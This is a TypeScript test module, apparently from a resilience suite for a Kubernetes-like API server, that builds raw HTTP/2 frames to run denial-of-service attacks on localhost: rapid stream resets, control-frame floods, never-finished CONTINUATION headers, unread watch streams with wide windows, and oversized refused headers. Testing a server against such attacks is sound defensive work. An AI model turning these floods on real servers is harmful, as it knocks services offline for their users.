import { once } from 'node:events';
import { connect, type TLSSocket } from 'node:tls';
import { frame } from '../../support/h2-client.ts';
import { END_HEADERS, END_STREAM, FRAME } from '../../support/raw-http2.ts';
import { type Attack, ATTACKER_TOKEN, type ClusterSize, type Target } from '../attack.ts';
import { sleep } from '../hostile.ts';

const LAST_MS = 8000;
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.SETTINGS, 0, 0)]);
/** RFC 9113 section 6.5.2: SETTINGS_INITIAL_WINDOW_SIZE, 2^31 - 1. */
const WIDE_STREAMS = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]));
const WIDE_SESSION = frame(FRAME.WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0, 0, 0]));
const CANCEL = Buffer.from([0, 0, 0, 8]);
const PRIORITY = 2;
const CONTINUATION = 9;
const UNKNOWN = 0xfa;
const LARGE: ClusterSize = { nodes: 5000, nodeBytes: 16_000 };
const INITIAL =
  '/api/v1/nodes?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&resourceVersion=0';

/** A connection that speaks HTTP/2; undefined where it was refused. */
async function open({ port, ca }: Target): Promise<TLSSocket | undefined> {
  const socket = connect({ host: '127.0.0.1', port, ca, ALPNProtocols: ['h2'] });
  socket.on('error', () => socket.destroy());
  await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]).catch(() => undefined);
  if (socket.destroyed) return undefined;
  socket.write(PREFACE);
  return socket;
}

/** A head in HPACK, without any table entry. */
function headOf(path: string): Buffer {
  const fields = [':method', 'GET', ':scheme', 'https', ':authority', 'x', ':path', path];
  const all = [...fields, 'authorization', `Bearer ${ATTACKER_TOKEN}`];
  return Buffer.concat(
    all.map((text, at) => Buffer.concat([Buffer.from(at % 2 === 0 ? [0] : []), hpack(text)])),
  );
}

/** RFC 7541 section 5.2, of up to 254 bytes. */
function hpack(text: string): Buffer {
  const length = text.length < 127 ? [text.length] : [127, text.length - 127];
  return Buffer.concat([Buffer.from(length), Buffer.from(text)]);
}

function ask(stream: number, path: string): Buffer {
  return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, headOf(path));
}

/** Each of so many clients writes what `next` gives as fast as it is taken, and comes again when it is sent away. */
async function flood(target: Target, clients: number, next: (round: number) => Buffer): Promise<void> {
  const end = performance.now() + LAST_MS;
  const one = async (): Promise<void> => {
    while (performance.now() < end) {
      const socket = await open(target);
      if (socket === undefined) continue;
      // Not by once() of node:events, which rejects when the connection is broken.
      const closed = new Promise((resolve) => socket.once('close', resolve));
      socket.resume();
      for (let round = 0; socket.writable && performance.now() < end; round++)
        if (!socket.write(next(round)))
          await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: clients }, one));
}

/** The next hundred streams, each asked for and reset. */
function resets(round: number): Buffer {
  const frames = Array.from({ length: 100 }, (_, i) => {
    const stream = 2 * (100 * round + i) + 1;
    return [ask(stream, '/api/v1/nodes?resourceVersion=0'), frame(FRAME.RST_STREAM, 0, stream, CANCEL)];
  });
  return Buffer.concat(frames.flat());
}

const CHEAP = [
  frame(FRAME.PING, 0, 0, Buffer.alloc(8)),
  frame(FRAME.SETTINGS, 0, 0),
  frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1])),
  frame(FRAME.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  frame(UNKNOWN, 0, 0),
].map((bytes) => Buffer.concat(Array.from({ length: 1000 }, () => bytes)));

/** RFC 9113 section 6.5.2: SETTINGS_INITIAL_WINDOW_SIZE, 0. */
const CLOSED_STREAMS = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));

/** A literal field without indexing, `a: ` and 16,000 bytes. */
const LONG_FIELD = Buffer.concat([Buffer.from([0, 1, 97, 127, 0x81, 0x7c]), Buffer.alloc(16_000, 'x')]);

async function unread(target: Target, path: string): Promise<void> {
  for (let count = 0; count < 8; count++) {
    const socket = await open(target);
    socket?.pause();
    socket?.write(Buffer.concat([WIDE_STREAMS, WIDE_SESSION]));
    for (let i = 0; i < 250; i++) socket?.write(ask(2 * i + 1, path));
  }
  await sleep(LAST_MS);
}

export const h2Resets: Attack = {
  name: 'h2-resets',
  victim: 'hub',
  what: 'hub, HTTP/2: 50 clients that reset each request as soon as it is sent, and come again when they are sent away',
  run: (target) => flood(target, 50, resets),
};

export const h2Frames: Attack = {
  name: 'h2-frames',
  victim: 'hub',
  what: 'hub, HTTP/2: 50 clients that send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and frames of no known kind as fast as they are taken',
  run: (target) => {
    let client = 0;
    return flood(target, 50, () => CHEAP[client++ % CHEAP.length] ?? PREFACE);
  },
};

export const h2Heads: Attack = {
  name: 'h2-heads',
  victim: 'hub',
  what: 'hub, HTTP/2: 1,000 connections that begin a head of 128 KiB and never end it',
  run: async (target) => {
    const begun = [frame(FRAME.HEADERS, 0, 1, headOf('/'))];
    for (let i = 0; i < 7; i++) begun.push(frame(CONTINUATION, 0, 1, LONG_FIELD));
    const bytes = Buffer.concat(begun);
    for (let at = 0; at < 1000; at += 50)
      for (const socket of await Promise.all(Array.from({ length: 50 }, () => open(target))))
        socket?.write(bytes);
    await sleep(LAST_MS);
  },
};

export const h2Unread: Attack = {
  name: 'h2-unread',
  victim: 'hub',
  cluster: LARGE,
  what: 'hub, HTTP/2: 2,000 watches of 5,000 Nodes of 16 KB on 8 connections with wide windows that never read',
  run: (target) => unread(target, INITIAL),
};

export const h2Refused: Attack = {
  name: 'h2-refused',
  victim: 'hub',
  what: 'hub, HTTP/2: 300 connections, each with 250 requests with heads of 16 KB that are refused, and no answer taken',
  run: async (target) => {
    // No preset has that name.
    const head = Buffer.concat([headOf('/for/nobody/'), LONG_FIELD]);
    const asked = Array.from({ length: 250 }, (_, i) =>
      frame(FRAME.HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head),
    );
    const bytes = Buffer.concat([CLOSED_STREAMS, ...asked]);
    for (let at = 0; at < 300; at += 10)
      for (const socket of await Promise.all(Array.from({ length: 10 }, () => open(target))))
        socket?.pause().write(bytes);
    await sleep(LAST_MS);
  },
};
